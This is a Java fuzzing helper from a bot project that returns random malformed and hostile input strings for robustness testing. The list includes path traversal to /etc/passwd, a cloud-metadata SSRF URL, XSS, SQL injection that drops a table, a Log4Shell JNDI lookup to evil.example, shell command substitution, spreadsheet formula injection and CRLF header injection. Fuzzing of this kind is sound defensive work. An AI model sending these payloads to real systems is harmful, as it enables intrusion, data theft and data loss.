package id.kentongan.bot.fuzz;

import java.util.List;
import java.util.Random;

/// What is put where something else is expected.
final class Oddities {
  private static final int LONG = 5_000;

  private static final List<String> VALUES =
      List.of(
          "",
          " ",
          "0",
          "-1",
          "1e999",
          "-0",
          "NaN",
          "null",
          "true",
          "[]",
          "{}",
          "[[[[[[[[[[",
          "{\"a\":{\"a\":{\"a\":",
          "9223372036854775808",
          "-9223372036854775809",
          "2147483648",
          "0.1e-7",
          "00000000000000000000",
          "%00",
          "%",
          "%zz",
          "%c0%ae%c0%ae/",
          "..",
          "../../../../etc/passwd",
          "..%2f..%2f",
          "..%5c",
          "//evil.example/",
          "http://169.254.169.254/latest/meta-data/",
          "file:///etc/passwd",
          "javascript:alert(1)",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "{{7*7}}",
          "${jndi:ldap://evil.example/x}",
          "' or '1'='1",
          "'; drop table talks; --",
          "$(id)",
          "=cmd|' /C calc'!A0",
          "\\u0000",
          "\\ud800",
          "\u0000",
          "\r\nX-Evil: 1",
          "\n\n",
          "\t",
          "\u0085\u2028",
          "\ufeff",
          "\u202e",
          "\ud83d\ude4f",
          "a\u0300\u0301\u0302",
          "2026-13-45",
          "0000-00-00",
          "-999999999-01-01",
          "3510171708850003",
          "DFT-2026-000001",
          "JKM-2026-000001",
          "TKT-2026-000001",
          "text/html",
          "multipart/form-data; boundary=",
          "application/json; charset=utf-7",
          "bytes=0-,0-,0-",
          "gzip, deflate",
          "kentongan=AAAAAAAAAAAAAAAAAAAAAA; petugas=x",
          "127.0.0.1, 10.0.0.1, , x",
          "::1%lo, [::1]:80");

  private Oddities() {}

  static String one(Random random) {
    int which = random.nextInt(VALUES.size() + 3);
    if (which < VALUES.size()) {
      return VALUES.get(which);
    }
    int length = 1 + random.nextInt(LONG);
    return switch (which - VALUES.size()) {
      case 0 -> "A".repeat(length);
      case 1 -> "[".repeat(length);
      default -> Integer.toString(random.nextInt());
    };
  }
}
